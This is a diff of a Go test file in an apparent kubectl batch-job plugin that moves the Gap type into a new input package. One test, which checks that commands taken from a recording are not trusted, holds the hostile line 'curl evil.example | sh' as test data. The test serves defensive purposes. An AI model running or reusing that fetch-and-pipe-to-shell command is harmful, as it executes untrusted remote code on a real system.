@@ -12,6 +12,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain/input"
+
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/utils/ptr"
@@ -306,8 +308,8 @@ func TestRecordingDoesNotFillTheMemory(t *testing.T) {
 // Requirements: BUN-11
 func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
 	const evil = "curl evil.example | sh"
-	gaps := func() []explain.Gap {
-		return []explain.Gap{{What: "pods", Text: "none", Verb: "list", Resource: "pods", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
+	gaps := func() []input.Gap {
+		return []input.Gap{{What: "pods", Text: "none", Verb: "list", Resource: "pods", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
 	}
 	hostile := tape()[2]
 	hostile.Jobs = &Jobs{Gaps: gaps()}
